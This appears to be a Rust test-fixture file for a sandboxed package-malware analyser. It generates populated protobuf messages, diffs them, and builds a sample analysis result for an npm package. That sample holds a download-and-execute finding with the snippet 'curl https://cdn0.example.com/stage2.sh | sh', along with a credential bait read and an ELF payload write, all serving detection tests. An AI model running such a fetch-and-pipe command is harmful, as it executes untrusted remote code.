//! Fixtures shared by the integration tests and the benchmark: messages
//! with every field set (generated from the descriptors, so a new proto
//! field is populated without touching this file), a realistic dynamic
//! result built with the generated Rust types, and a field-by-field
//! comparison that says where two messages differ.

#![allow(dead_code)]

use std::collections::BTreeSet;

use paddock_proto::v1;
use paddock_proto::well_known::{Duration, Timestamp};
use paddock_sink::Table;
use prost_reflect::{DynamicMessage, Kind, MapKey, MessageDescriptor, ReflectMessage, Value};

pub const TIMESTAMP: &str = "google.protobuf.Timestamp";
pub const DURATION: &str = "google.protobuf.Duration";

/// A message of `descriptor` with every field set to a non-default value
/// that depends on `seed`: repeated fields and maps hold 2 or 3 entries,
/// strings are non-ASCII, bytes are not UTF-8, enums are non-zero,
/// timestamps and durations whole microseconds (some before 1970 or
/// negative), integers sometimes at their extremes. Of a `oneof`, one
/// member is set, chosen by the seed. A message type recurring on its own
/// path is left empty there.
pub fn populated(descriptor: &MessageDescriptor, seed: u64) -> DynamicMessage {
    populate(descriptor, seed, &mut Vec::new())
}

fn populate(descriptor: &MessageDescriptor, seed: u64, stack: &mut Vec<String>) -> DynamicMessage {
    let mut message = DynamicMessage::new(descriptor.clone());
    match descriptor.full_name() {
        TIMESTAMP => {
            let before_1970 = seed.is_multiple_of(5);
            let seconds = 1_600_000_000 + (seed % 1000) as i64 * 86_399;
            let seconds = if before_1970 { -seconds } else { seconds };
            message.set_field_by_number(1, Value::I64(seconds));
            message.set_field_by_number(2, Value::I32(((seed * 7919 % 999_999) as i32 + 1) * 1000));
            return message;
        }
        DURATION => {
            let sign = if seed.is_multiple_of(4) { -1 } else { 1 };
            message.set_field_by_number(1, Value::I64(sign * (seed % 100 + 1) as i64));
            message.set_field_by_number(
                2,
                Value::I32(sign as i32 * ((seed * 31 % 999_999) as i32 + 1) * 1000),
            );
            return message;
        }
        _ => {}
    }
    if stack.iter().any(|name| name == descriptor.full_name()) {
        return message;
    }
    stack.push(descriptor.full_name().to_owned());
    for (index, field) in descriptor.fields().enumerate() {
        let seed = seed.wrapping_mul(131).wrapping_add(index as u64 + 1);
        if let Some(oneof) = field.containing_oneof() {
            let members: Vec<_> = oneof.fields().collect();
            if members[(seed as usize) % members.len()].number() != field.number() {
                continue;
            }
        }
        let value = if field.is_map() {
            let Kind::Message(entry) = field.kind() else {
                unreachable!()
            };
            let key_kind = entry.map_entry_key_field().kind();
            let value_kind = entry.map_entry_value_field().kind();
            let map = (0..2 + seed % 2)
                .map(|i| {
                    let key = scalar(&key_kind, seed + i, stack)
                        .into_map_key()
                        .expect("map keys are scalars");
                    (key, scalar(&value_kind, seed + i, stack))
                })
                .collect();
            Value::Map(map)
        } else if field.is_list() {
            Value::List(
                (0..2 + seed % 2)
                    .map(|i| scalar(&field.kind(), seed.wrapping_mul(7) + i, stack))
                    .collect(),
            )
        } else {
            scalar(&field.kind(), seed, stack)
        };
        message.set_field(&field, value);
    }
    stack.pop();
    message
}

fn scalar(kind: &Kind, seed: u64, stack: &mut Vec<String>) -> Value {
    let extreme = seed.is_multiple_of(3);
    let small = (seed % 100_000) as i64 + 1;
    match kind {
        Kind::Bool => Value::Bool(true),
        Kind::Int32 | Kind::Sint32 | Kind::Sfixed32 => {
            Value::I32(if extreme { i32::MIN } else { -(small as i32) })
        }
        Kind::Int64 | Kind::Sint64 | Kind::Sfixed64 => Value::I64(if extreme {
            i64::MIN
        } else {
            -small * 1_000_003
        }),
        Kind::Uint32 | Kind::Fixed32 => Value::U32(if extreme { u32::MAX } else { small as u32 }),
        Kind::Uint64 | Kind::Fixed64 => Value::U64(if extreme {
            u64::MAX
        } else {
            small as u64 * 1_000_003
        }),
        // Binary fractions, exact in both widths.
        Kind::Float => Value::F32(small as f32 / 8.0),
        Kind::Double => Value::F64(if extreme {
            f64::MAX
        } else {
            small as f64 / 1024.0
        }),
        Kind::String => Value::String(format!("s{seed}-é☃🦀")),
        Kind::Bytes => Value::Bytes(vec![0xff, 0x00, 0xfe, seed as u8, 0x80].into()),
        Kind::Enum(e) => {
            let values: Vec<i32> = e.values().map(|v| v.number()).filter(|n| *n != 0).collect();
            Value::EnumNumber(values[(seed as usize) % values.len()])
        }
        Kind::Message(m) => Value::Message(populate(m, seed, stack)),
    }
}

/// A populated message with every other field cleared, at every level
/// (alternating with the depth and the seed), so that null structs inside
/// lists, empty lists and default scalars are exercised too.
pub fn sparse(descriptor: &MessageDescriptor, seed: u64) -> DynamicMessage {
    let mut message = populated(descriptor, seed);
    thin(&mut message, seed);
    message
}

fn thin(message: &mut DynamicMessage, seed: u64) {
    if matches!(message.descriptor().full_name(), TIMESTAMP | DURATION) {
        return;
    }
    let fields: Vec<_> = message.descriptor().fields().collect();
    for (index, field) in fields.iter().enumerate() {
        if (index as u64 + seed).is_multiple_of(2) {
            message.clear_field(field);
            continue;
        }
        let nested = seed + 1;
        match message.get_field_mut(field) {
            Value::Message(m) => thin(m, nested),
            Value::List(items) => items.iter_mut().enumerate().for_each(|(i, item)| {
                if let Value::Message(m) = item {
                    thin(m, nested + i as u64);
                }
            }),
            Value::Map(map) => map.values_mut().for_each(|v| {
                if let Value::Message(m) = v {
                    thin(m, nested);
                }
            }),
            _ => {}
        }
    }
}

/// The sample of a table for the round trip: four fully populated
/// messages, two sparse ones and an empty one.
pub fn samples(table: Table) -> Vec<DynamicMessage> {
    let descriptor = table.descriptor();
    let mut out: Vec<DynamicMessage> = (1..=4).map(|seed| populated(&descriptor, seed)).collect();
    out.push(sparse(&descriptor, 5));
    out.push(sparse(&descriptor, 6));
    out.push(DynamicMessage::new(descriptor));
    out
}

/// Full names of the fields a message reachable from `descriptor` can have
/// (not descending into timestamps and durations, which are columns).
pub fn reachable_fields(descriptor: &MessageDescriptor) -> BTreeSet<String> {
    fn walk(
        descriptor: &MessageDescriptor,
        seen: &mut BTreeSet<String>,
        out: &mut BTreeSet<String>,
    ) {
        if matches!(descriptor.full_name(), TIMESTAMP | DURATION)
            || !seen.insert(descriptor.full_name().to_owned())
        {
            return;
        }
        for field in descriptor.fields() {
            out.insert(field.full_name().to_owned());
            if let Kind::Message(m) = field.kind() {
                if field.is_map() {
                    if let Kind::Message(v) = m.map_entry_value_field().kind() {
                        walk(&v, seen, out);
                    }
                } else {
                    walk(&m, seen, out);
                }
            }
        }
    }
    let mut out = BTreeSet::new();
    walk(descriptor, &mut BTreeSet::new(), &mut out);
    out
}

/// Full names of the fields set (with a non-default value) anywhere in
/// `messages`.
pub fn set_fields(messages: &[DynamicMessage]) -> BTreeSet<String> {
    fn value(v: &Value, out: &mut BTreeSet<String>) {
        match v {
            Value::Message(m) => message(m, out),
            Value::List(items) => items.iter().for_each(|i| value(i, out)),
            Value::Map(map) => map.values().for_each(|i| value(i, out)),
            _ => {}
        }
    }
    fn message(m: &DynamicMessage, out: &mut BTreeSet<String>) {
        if matches!(m.descriptor().full_name(), TIMESTAMP | DURATION) {
            return;
        }
        for (field, v) in m.fields() {
            out.insert(field.full_name().to_owned());
            value(v, out);
        }
    }
    let mut out = BTreeSet::new();
    messages.iter().for_each(|m| message(m, &mut out));
    out
}

/// Where `actual` differs from `expected`, field by field, or `None`.
/// Presence counts: an unset message differs from an empty one.
pub fn first_difference(expected: &DynamicMessage, actual: &DynamicMessage) -> Option<String> {
    fn message(path: &str, e: &DynamicMessage, a: &DynamicMessage) -> Option<String> {
        if e.descriptor() != a.descriptor() {
            return Some(format!(
                "{path}: type {} vs {}",
                e.descriptor().full_name(),
                a.descriptor().full_name()
            ));
        }
        if a.unknown_fields().next().is_some() {
            return Some(format!("{path}: unknown fields in the actual message"));
        }
        for field in e.descriptor().fields() {
            let here = if path.is_empty() {
                field.name().to_owned()
            } else {
                format!("{path}.{}", field.name())
            };
            if e.has_field(&field) != a.has_field(&field) {
                return Some(format!(
                    "{here}: set {} vs {} ({:?} vs {:?})",
                    e.has_field(&field),
                    a.has_field(&field),
                    e.get_field(&field),
                    a.get_field(&field)
                ));
            }
            if let Some(d) = value(&here, &e.get_field(&field), &a.get_field(&field)) {
                return Some(d);
            }
        }
        None
    }
    fn value(path: &str, e: &Value, a: &Value) -> Option<String> {
        match (e, a) {
            (Value::Message(e), Value::Message(a)) => message(path, e, a),
            (Value::List(e), Value::List(a)) => {
                if e.len() != a.len() {
                    return Some(format!("{path}: {} elements vs {}", e.len(), a.len()));
                }
                e.iter()
                    .zip(a)
                    .enumerate()
                    .find_map(|(i, (e, a))| value(&format!("{path}[{i}]"), e, a))
            }
            (Value::Map(e), Value::Map(a)) => {
                let ek: BTreeSet<&MapKey> = e.keys().collect();
                let ak: BTreeSet<&MapKey> = a.keys().collect();
                if ek != ak {
                    return Some(format!("{path}: keys {ek:?} vs {ak:?}"));
                }
                ek.into_iter()
                    .find_map(|k| value(&format!("{path}{{{k:?}}}"), &e[k], &a[k]))
            }
            (e, a) if e == a => None,
            (e, a) => Some(format!("{path}: {e:?} vs {a:?}")),
        }
    }
    message("", expected, actual)
}

fn ts(seconds: i64, micros: i32) -> Option<Timestamp> {
    Some(Timestamp {
        seconds,
        nanos: micros * 1000,
    })
}

/// A dynamic result shaped like a real one: three phases with file, socket,
/// DNS, command and process events, captured output and findings. `i`
/// varies the names and sizes a little. Fields added to the protos later
/// keep their defaults here.
#[allow(clippy::needless_update)]
pub fn realistic_dynamic_result(i: usize) -> v1::DynamicResult {
    let t0 = 1_760_000_000 + i as i64 * 60;
    let package = v1::PackageRef {
        ecosystem: v1::Ecosystem::Npm as i32,
        name: format!("@scope/left-pad-{i}"),
        version: format!("1.{}.0", i % 17),
        ..Default::default()
    };
    let phase = |p: v1::Phase, offset: i64| {
        let pid = 100 + offset as u32;
        v1::PhaseResult {
            phase: p as i32,
            status: v1::AnalysisStatus::Completed as i32,
            status_detail: String::new(),
            started_at: ts(t0 + offset, 250_000),
            duration: Some(Duration {
                seconds: 3 + offset,
                nanos: 125_000_000,
            }),
            resources: Some(v1::ResourceUsage {
                max_rss_bytes: 48 << 20,
                cpu_seconds: 1.75,
                max_pids: 7,
                oom_killed: false,
                pids_limit_hit: false,
                ..Default::default()
            }),
            exit_code: 0,
            stdout_tail: [b"added 1 package in 2s\n".as_slice(), &[0xff, 0xfe]]
                .concat()
                .repeat(40),
            stderr_tail: b"npm warn deprecated\n".repeat(10),
            files: (0..8)
                .map(|f| v1::FileAccess {
                    path: format!("/app/node_modules/pkg/lib/file{f}.js"),
                    read: true,
                    write: f % 3 == 0,
                    delete: false,
                    failed_only: f == 7,
                    ..Default::default()
                })
                .collect(),
            file_events: (0..20)
                .map(|e| v1::FileEvent {
                    seq: e,
                    pid,
                    op: if e % 4 == 0 {
                        v1::FileOp::OpenWrite
                    } else {
                        v1::FileOp::OpenRead
                    } as i32,
                    path: format!("/app/node_modules/pkg/lib/file{}.js", e % 8),
                    target: String::new(),
                    result: if e == 19 { -2 } else { 3 },
                    error: if e == 19 {
                        "ENOENT".into()
                    } else {
                        String::new()
                    },
                    mode: 0o644,
                    ..Default::default()
                })
                .collect(),
            sockets: (0..3)
                .map(|s| v1::Socket {
                    seq: 100 + s,
                    pid,
                    op: v1::SocketOp::Connect as i32,
                    family: "AF_INET".into(),
                    protocol: "tcp".into(),
                    address: format!("192.0.2.{}", 10 + s),
                    port: 443,
                    hostnames: vec![format!("cdn{s}.example.com")],
                    result: 0,
                    error: String::new(),
                    ..Default::default()
                })
                .collect(),
            dns: vec![v1::DnsQuery {
                hostname: "registry.example.org".into(),
                types: vec!["A".into(), "AAAA".into()],
                class: "IN".into(),
                answered: true,
                answers: vec!["192.0.2.10".into()],
                at: ts(t0 + offset, 500_000),
                ..Default::default()
            }],
            commands: (0..3)
                .map(|c| v1::Command {
                    seq: 200 + c,
                    pid: pid + c as u32,
                    parent_pid: pid,
                    argv: vec![
                        "sh".into(),
                        "-c".into(),
                        format!("node install.js --step {c}"),
                    ],
                    env: vec![
                        "PATH=/usr/bin:/bin".into(),
                        "HOME=/root".into(),
                        "npm_lifecycle_event=postinstall".into(),
                    ],
                    cwd: "/app".into(),
                    result: 0,
                    ..Default::default()
                })
                .collect(),
            processes: (0..4)
                .map(|p| v1::Process {
                    pid: pid + p,
                    parent_pid: pid,
                    executable: "/usr/local/bin/node".into(),
                    argv: vec!["node".into(), "install.js".into()],
                    first_seq: u64::from(p) * 10,
                    exit_code: 0,
                    ..Default::default()
                })
                .collect(),
            file_writes: vec![v1::FileWrite {
                path: "/tmp/payload.bin".into(),
                pid,
                bytes_written: 4096,
                sha256: "ab".repeat(32),
                head: vec![0x7f, b'E', b'L', b'F', 2, 1, 1, 0],
                ..Default::default()
            }],
            http_requests: vec![v1::HttpRequest {
                method: "GET".into(),
                host: "cdn0.example.com".into(),
                path: "/stage2.sh".into(),
                headers: vec![v1::Header {
                    name: "user-agent".into(),
                    value: "curl/8.0".into(),
                    ..Default::default()
                }],
                body_size: 0,
                body_sha256: String::new(),
                body_head: Vec::new(),
                address: "192.0.2.10".into(),
                port: 443,
                at: ts(t0 + offset, 750_000),
                via: "catch-all".into(),
                refused: String::new(),
                response_status: 200,
                hostname: "cdn0.example.com".into(),
                ..Default::default()
            }],
            tls: vec![v1::TlsHello {
                sni: "cdn0.example.com".into(),
                alpn: vec!["h2".into(), "http/1.1".into()],
                address: "192.0.2.10".into(),
                port: 443,
                at: ts(t0 + offset, 600_000),
                hostname: "cdn0.example.com".into(),
                ..Default::default()
            }],
            datagrams: Vec::new(),
            bait_accesses: vec![v1::BaitAccess {
                bait: "env:AWS_SECRET_ACCESS_KEY".into(),
                how: "read".into(),
                pid,
                detail: String::new(),
                ..Default::default()
            }],
            fetched_packages: Vec::new(),
            trace: Some(v1::TraceStats {
                lines: 5000,
                events: 420,
                unparsed_lines: 3,
                truncated: false,
                ..Default::default()
            }),
            connections: vec![v1::Connection {
                address: "192.0.2.10".into(),
                port: 443,
                hostname: "cdn0.example.com".into(),
                protocol: "tls".into(),
                bytes_received: 517,
                sha256: "cd".repeat(32),
                head: vec![0x16, 0x03, 0x01],
                at: ts(t0 + offset, 600_000),
                ..Default::default()
            }],
            ..Default::default()
        }
    };
    v1::DynamicResult {
        package: Some(package),
        run: Some(v1::AnalysisRun {
            run_id: format!("01J{i:023}"),
            started_at: ts(t0, 0),
            finished_at: ts(t0 + 30, 0),
            analyzer_version: "0.1.0".into(),
            worker: "worker-3".into(),
            ..Default::default()
        }),
        created_at: ts(t0 + 30, 1),
        artifact: Some(v1::Artifact {
            filename: format!("left-pad-{i}.tgz"),
            size: 4242,
            sha256: "ef".repeat(32),
            registry_digests: vec![v1::RegistryDigest {
                algorithm: "sha512".into(),
                value: "sha512-abc".into(),
                ..Default::default()
            }],
            object_key: format!("npm/left-pad-{i}.tgz"),
            url: "https://registry.example.org/left-pad/-/left-pad-1.3.0.tgz".into(),
            kind: v1::ArtifactKind::NpmTarball as i32,
            ..Default::default()
        }),
        sandbox: Some(v1::SandboxInfo {
            runtime: "runsc 20221219.0".into(),
            network_mode: "sandbox".into(),
            image_digest: "sha256:".to_owned() + &"01".repeat(32),
            memory_limit_bytes: 1 << 30,
            pids_limit: 256,
            cpu_limit: 1.0,
            ..Default::default()
        }),
        phases: vec![
            phase(v1::Phase::Install, 0),
            phase(v1::Phase::Import, 10),
            phase(v1::Phase::Execute, 20),
        ],
        findings: vec![v1::Finding {
            rule_id: "threat.download-and-execute".into(),
            rule_version: "1".into(),
            severity: v1::Severity::High as i32,
            confidence: 0.875,
            category: v1::FindingCategory::Threat as i32,
            title: "downloads and runs a shell script".into(),
            description: "the install hook fetches stage2.sh and pipes it to sh".into(),
            evidence: vec![v1::Evidence {
                file: "/app/install.js".into(),
                line: 3,
                column: 1,
                snippet: "curl https://cdn0.example.com/stage2.sh | sh".into(),
                phase: v1::Phase::Install as i32,
                pid: 101,
                detail: "connect 192.0.2.10:443".into(),
                ..Default::default()
            }],
            tags: vec!["network".into(), "exec".into()],
            ..Default::default()
        }],
        status: v1::AnalysisStatus::Completed as i32,
        status_detail: String::new(),
        ..Default::default()
    }
}
